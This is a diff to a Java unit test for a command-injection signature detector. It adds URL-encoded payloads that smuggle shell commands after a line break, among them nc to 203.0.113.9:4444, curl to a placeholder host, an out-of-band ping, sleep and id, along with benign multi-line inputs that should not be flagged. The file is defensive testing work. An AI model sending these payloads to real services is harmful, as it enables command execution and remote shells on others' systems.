@@ -195,7 +195,18 @@ class SignatureDetectorTest {
             "host=x;who%5Cami",
             "host=x;wh$@oami",
             "host=x;c''at%20/etc/hosts",
-            "host=x%0Aw'h'o'am'i"})
+            "host=x%0Aw'h'o'am'i",
+            // after a line break: a blind probe, a host or address, a URL, the last line, the parameter's end
+            "host=127.0.0.1%0asleep%205",
+            "host=127.0.0.1%0aping%20abc.oast.fun",
+            "host=127.0.0.1%0anc%20203.0.113.9%204444",
+            "host=127.0.0.1%0ash%20x.sh",
+            "host=127.0.0.1%0acurl%20http://x.example/a",
+            "host=127.0.0.1%0aid%0a",
+            "host=127.0.0.1%0aid&submit=1",
+            // SQL comment signs mean nothing to a shell: the command after them still runs
+            "host=127.0.0.1%23;id%0a",
+            "host=127.0.0.1--;id%0a"})
     void aCommandAfterALineBreakOrSpelledWithQuotesIsFound(String query) {
         assertThat(DEFAULTS.check(access("/api/ping", query, BROWSER, null)))
                 .isEqualTo(new Finding("cmd-separator-command", "cmd_injection", "high"));
@@ -215,6 +226,13 @@ class SignatureDetectorTest {
             "/contact                             | message=Go+to+store.%0AAt+the+store,+shop.",
             "/contact                             | message=Thanks!%0Atime+to+go%0Acat+food+is+on+the+list",
             "/export                              | columns=Title%0ADate%0AType%0AFile",
+            "/export                              | columns=Name%0AID%0AEmail",
+            "/export                              | columns=Name%0AIP",
+            "/profile                             | skills=Skills:%0AJava%0APython%0ANode",
+            "/contact                             | message=Thanks%0APS",
+            "/contact                             | message=Lunch%0Aat+$5%0Aat+~5pm",
+            "/contact                             | message=Our+list:%0Atop+10+tips%0Amore+5+days",
+            "/ping                                | host=127.0.0.1%0did",
             "/contact                             | message=See+you%0Alater.%0AMore.%0AWho%3F",
             "/search                              | q=O%27Reilly+books",
             "/search                              | q=it's+a+cat",
